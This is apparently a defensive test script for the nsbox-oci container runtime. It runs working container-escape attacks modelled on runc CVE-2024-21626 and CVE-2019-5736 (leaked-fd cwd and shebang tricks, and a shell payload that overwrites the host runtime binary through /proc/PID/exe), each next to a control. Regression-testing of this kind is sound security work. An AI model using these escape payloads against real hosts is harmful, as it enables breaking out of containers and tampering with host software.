#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""nsbox-oci under attack (issue 16's review): what a hostile container does
to the runtime that enters it (`exec`), to the files and processes the
runtime acts on later (`kill`, `delete`, `state`), and what a hostile
config.json asks for; runc's and crun's CVE history is the checklist. Each
attack runs for real from inside a container that nsbox-oci created and
started on a busybox bundle, as root and as nobody (a user namespace
mapping nobody to 0), next to a control showing that the same action
succeeds where the defence is not in its way.

    nsbox_oci_attack.py NSBOX-OCI
"""
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

import nsbox_oci as T

OCI = T.OCI
failures = []


def check(cond, what):
    if not cond:
        failures.append(what)
        print("FAIL:", what, flush=True)
    else:
        print("ok:", what.split(":")[0], flush=True)
    return cond


MOUNTS = [{"destination": "/proc", "type": "proc", "source": "proc"},
          {"destination": "/dev", "type": "tmpfs", "source": "tmpfs",
           "options": ["nosuid", "mode=755"]}]


def start(env, cid, args, **over):
    """create + start a container running args; True when it runs."""
    over.setdefault("mounts", MOUNTS)
    b = env.bundle(env.config(args, **over))
    with env.out_file(cid) as f:
        rc, _, err = env.oci("create", "--bundle", b, cid, stdout=f)
    if not check(rc == 0, f"{env.who} create {cid}: {err}"):
        return False
    rc, _, err = env.oci("start", cid)
    return check(rc == 0, f"{env.who} start {cid}: {err}")


def output(env, cid):
    with open(os.path.join(env.top, f"{env.who}-{cid}.out")) as f:
        return f.read()


def wait_for(pred, limit=20.0):
    end = time.monotonic() + limit
    while time.monotonic() < end:
        if pred():
            return True
        time.sleep(0.05)
    return False


def host_secret(env):
    """A host file outside the bundle, and the relative path that reaches
    it from any directory of the host (enough ".." to reach /)."""
    path = os.path.join(env.top, "host-secret")
    if not os.path.exists(path):
        with open(path, "w") as f:
            f.write("HOSTSECRET\n")
        os.chmod(path, 0o644)
    return "../" * 40 + path.lstrip("/")


# ---------------------------------------------------------------- exec, cwd


def test_cwd_leaked_fd(env):
    """CVE-2024-21626: process.cwd (image WorkingDir, or exec --cwd) names
    /proc/self/fd/N, an fd the runtime holds on a host directory while it
    sets the process up; the process then starts outside its root."""
    who = env.who
    rel = host_secret(env)
    escaped = []
    # create: the config's process.cwd
    for n in range(3, 16):
        cfg = env.config(["sh", "-c", f"cat {rel}"], mounts=MOUNTS)
        cfg["process"]["cwd"] = f"/proc/self/fd/{n}"
        rc, out, err = env.run(f"cwd{n}", cfg["process"]["args"], process=cfg["process"],
                               mounts=MOUNTS)
        if "HOSTSECRET" in out:
            escaped.append(f"create cwd fd {n}")
    # exec --cwd, and with an fd the engine leaked (not close-on-exec)
    if start(env, "cwdx", ["sleep", "1000"]):
        d = os.open(env.top, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for n in range(3, 16):
                if env.state("cwdx").get("status") != "running":
                    env.oci("delete", "--force", "cwdx")
                    if not start(env, "cwdx", ["sleep", "1000"]):
                        break
                rc, out, err = env.oci("exec", "--cwd", f"/proc/self/fd/{n}", "cwdx", "sh", "-c",
                                       f"cat {rel}", pass_fds=(d,))
                if "HOSTSECRET" in out:
                    escaped.append(f"exec --cwd fd {n}")
        finally:
            os.close(d)
            env.oci("delete", "--force", "cwdx")
    check(not escaped, f"{who} cwd through a leaked fd stays in the container: {escaped}")
    # control: the relative path reaches the file from a host directory
    r = subprocess.run(["sh", "-c", f"cat {rel}"], cwd=env.top, capture_output=True, text=True)
    check("HOSTSECRET" in r.stdout, f"{who} control: the path reaches the host file: {r.stdout}")


# --------------------------------------------------- exec, the interpreter


def marker_binary(env):
    """A static busybox on the host only, under a name no busybox applet
    has: run, it says "hostonly-marker: applet not found"."""
    d = os.path.join(env.top, "hostbin")
    path = os.path.join(d, "hostonly-marker")
    if not os.path.exists(path):
        os.makedirs(d, exist_ok=True)
        shutil.copy2(T.BUSYBOX, path)
        os.chmod(path, 0o755)
    return path


def write_script(path, text):
    with open(path, "w") as f:
        f.write(text)
    os.chmod(path, 0o755)


def test_interpreter_leaked_fd(env):
    """runc's CVE-2024-21626 attack 3: the command the runtime execs is a
    script whose interpreter is /proc/self/fd/N/../../HOST-PATH. The kernel
    looks the interpreter up before exec closes the close-on-exec fds, so a
    host directory fd of the runtime still open there reaches the host."""
    who = env.who
    marker = marker_binary(env)
    rel = "../" * 40 + marker.lstrip("/")
    for n in range(3, 24):
        write_script(os.path.join(env.rootfs, "bin", f"evilfd{n}"), f"#!/proc/self/fd/{n}/{rel}\n")
    ran = []
    for n in range(3, 24):
        rc, out, err = env.run(f"ifd{n}", [f"/bin/evilfd{n}"], mounts=MOUNTS)
        if "hostonly-marker" in out + err:
            ran.append(f"create fd {n}")
    if start(env, "ifdx", ["sleep", "1000"]):
        d = os.open(env.top, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for n in range(3, 24):
                rc, out, err = env.oci("exec", "ifdx", f"/bin/evilfd{n}", pass_fds=(d,))
                if "hostonly-marker" in out + err:
                    ran.append(f"exec fd {n}")
        finally:
            os.close(d)
            env.oci("delete", "--force", "ifdx")
    check(not ran, f"{who} no host program runs as an interpreter through a leaked fd: {ran}")
    # control: a process holding a host directory at fd 9 runs the marker
    d = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    try:
        os.dup2(d, 9)
        r = subprocess.run([os.path.join(env.rootfs, "bin", "evilfd9")], capture_output=True,
                           text=True, pass_fds=(9,))
    finally:
        os.close(9)
        os.close(d)
    check("hostonly-marker" in r.stdout + r.stderr, f"{who} control: the marker runs: {r.stderr}")


def runtime_copy(env):
    """A copy of nsbox-oci (and libnsbox beside it, where its RUNPATH
    looks) that the attacks may damage: the caller's own binary, so owned
    by nobody in the nobody half."""
    top = os.path.join(env.top, f"ocicopy-{env.who}")
    exe = os.path.join(top, "tools", "nsbox-oci", "nsbox-oci")
    if not os.path.exists(exe):
        os.makedirs(os.path.dirname(exe))
        os.makedirs(os.path.join(top, "lib"))
        shutil.copy2(OCI, exe)
        name, lib = libnsbox()
        shutil.copy2(lib, os.path.join(top, "lib", name))
        if env.nobody:
            for d, _, files in os.walk(top):
                os.chown(d, 65534, 65534)
                for f in files:
                    os.chown(os.path.join(d, f), 65534, 65534)
    return exe


def libnsbox():
    """(soname, file) of libnsbox as the built nsbox-oci loads it."""
    r = subprocess.run(["ldd", OCI], capture_output=True, text=True)
    for line in r.stdout.splitlines():
        if "libnsbox.so" in line and "=>" in line:
            return line.split()[0], os.path.realpath(line.split("=>")[1].split()[0])
    raise RuntimeError("libnsbox not found by ldd: " + r.stdout)


def rootfs_with_libs(env):
    """The busybox rootfs plus the loader and libraries nsbox-oci needs, as
    an image based on a glibc distribution (with the runtime's libraries
    added by the attacker) has them."""
    root = os.path.join(env.top, "rootfs-libs")
    if os.path.exists(root):
        return root
    shutil.copytree(env.rootfs, root, symlinks=True)
    libdir = os.path.join(root, "lib", "x86_64-linux-gnu")
    os.makedirs(libdir, exist_ok=True)
    r = subprocess.run(["ldd", OCI], capture_output=True, text=True)
    for line in r.stdout.splitlines():
        parts = line.split()
        if "=>" in parts and len(parts) >= 3 and parts[2].startswith("/"):
            shutil.copy2(os.path.realpath(parts[2]), os.path.join(libdir, parts[0]))
        elif parts and parts[0].startswith("/") and "ld-linux" in parts[0]:
            dst = os.path.join(root, parts[0].lstrip("/"))
            os.makedirs(os.path.dirname(dst), exist_ok=True)
            shutil.copy2(os.path.realpath(parts[0]), dst)
    return root


# The container's PID 1: waits for the runtime's binary to run in the
# container (its cmdline carries --log=/tmp/f), keeps /proc/PID/exe open,
# lets it go on (it waits on opening the fifo /tmp/f as its log), and
# appends to the file behind the fd once no process executes it (ETXTBSY
# until then): runc's CVE-2019-5736.
ATTACKER_EXE = r"""
mkfifo /tmp/f
n=0; pid=
while [ -z "$pid" ] && [ $n -lt 3000 ]; do
  for d in /proc/[0-9]*; do
    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
      "/proc/self/exe --log=/tmp/f"*) pid=${d#/proc/}; break;;
    esac
  done
  n=$((n+1))
done
if [ -z "$pid" ]; then echo NOTFOUND; cat /tmp/f >/dev/null & sleep 1000; fi
if exec 3< /proc/$pid/exe; then echo "GOTEXE $(readlink /proc/$pid/exe)"; fi
cat /tmp/f > /dev/null &
i=0
while [ $i -lt 200 ]; do
  if (echo PWNED >> /proc/self/fd/3) 2>/dev/null; then echo WROTE; break; fi
  usleep 50000; i=$((i+1))
done
echo DONE
sleep 1000
"""


def test_exec_proc_self_exe(env):
    """CVE-2019-5736: the program exec runs is "#!/proc/self/exe": the
    kernel resolves the interpreter in the process that calls execve, and
    when that process shares the runtime's memory its /proc/self/exe is the
    runtime's binary on the host, which then runs in the container, where
    PID 1 opens /proc/PID/exe and writes the file once it is free."""
    who = env.who
    copy = runtime_copy(env)
    root = rootfs_with_libs(env)
    write_script(os.path.join(root, "bin", "evilexe"), "#!/proc/self/exe --log=/tmp/f\n")
    with open(copy, "rb") as f:
        before = f.read()
    cid = "pse"
    b = env.bundle(env.config(["sh", "-c", ATTACKER_EXE], mounts=MOUNTS,
                              root={"path": root, "readonly": False}))
    cmd = [copy, "--root", env.root]
    pre = T.as_nobody if env.nobody else None
    with env.out_file(cid) as f:
        r = subprocess.run(cmd + ["create", "--bundle", b, cid], stdout=f, stderr=f,
                           preexec_fn=pre, stdin=subprocess.DEVNULL)
    if not check(r.returncode == 0, f"{who} create {cid}: {output(env, cid)}"):
        return
    subprocess.run(cmd + ["start", cid], preexec_fn=pre, capture_output=True)
    r = subprocess.run(cmd + ["exec", cid, "/bin/evilexe"], preexec_fn=pre, capture_output=True,
                       text=True, timeout=60)
    wait_for(lambda: "DONE" in output(env, cid) or "NOTFOUND" in output(env, cid), 20)
    out = output(env, cid)
    subprocess.run(cmd + ["delete", "--force", cid], preexec_fn=pre, capture_output=True)
    with open(copy, "rb") as f:
        after = f.read()
    check(after == before, f"{who} the runtime's binary is not written from the container: "
          f"{out.strip()} / exec: {r.returncode} {r.stderr.strip()[:200]}")
    check("/memfd:" in out or "NOTFOUND" in out or "GOTEXE" not in out,
          f"{who} the container sees no host binary as /proc/PID/exe: {out.strip()}")
    # control: the same steps against the copy run as a plain process
    fifo = os.path.join(env.top, f"ctl-fifo-{who}")
    os.mkfifo(fifo)
    if env.nobody:
        os.chown(fifo, 65534, 65534)
    p = subprocess.Popen([copy, f"--log={fifo}", "state", "x"], preexec_fn=pre,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        fd = os.open(f"/proc/{p.pid}/exe", os.O_RDONLY)
        rd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        p.wait(timeout=20)
        os.close(rd)
        wrote = False
        for _ in range(100):
            try:
                w = os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_APPEND)
                os.write(w, b"CONTROL")
                os.close(w)
                wrote = True
                break
            except OSError:
                time.sleep(0.05)
        os.close(fd)
    finally:
        p.kill()
        p.wait()
        os.unlink(fifo)
    with open(copy, "rb") as f:
        ctl = f.read()
    check(wrote and ctl != after, f"{who} control: a plain process's /proc/PID/exe writes the file")
    with open(copy, "wb") as f:
        f.write(before)


TESTS = [test_cwd_leaked_fd, test_interpreter_leaked_fd, test_exec_proc_self_exe]


def main():
    if not os.path.exists(T.BUSYBOX):
        print("SKIP: needs busybox (Debian package busybox-static)")
        sys.exit(77)
    if os.geteuid() != 0:
        print("SKIP: runs as root (and drops to nobody itself)")
        sys.exit(77)
    only = os.environ.get("OCI_ATTACK_ONLY", "").split()
    top = tempfile.mkdtemp(prefix="nsbox-oci-attack.")
    os.chmod(top, 0o755)
    try:
        T.busybox_rootfs(top)
        for nobody in (False, True):
            env = T.Env(top, nobody)
            if nobody:
                os.chown(top, 65534, 65534)
            print(f"== as {env.who}", flush=True)
            for t in TESTS:
                if only and t.__name__ not in only:
                    continue
                print(f"-- {t.__name__}", flush=True)
                t(env)
            check(os.listdir(env.root) == [], f"{env.who}: state left: {os.listdir(env.root)}")
    finally:
        for root in ("state-root", "state-nobody"):
            d = os.path.join(top, root)
            for cid in os.listdir(d) if os.path.isdir(d) else []:
                subprocess.run([OCI, "--root", d, "delete", "--force", cid], capture_output=True)
        shutil.rmtree(top, ignore_errors=True)
    print(f"{len(failures)} failure(s)")
    sys.exit(1 if failures else 0)


if __name__ == "__main__":
    main()
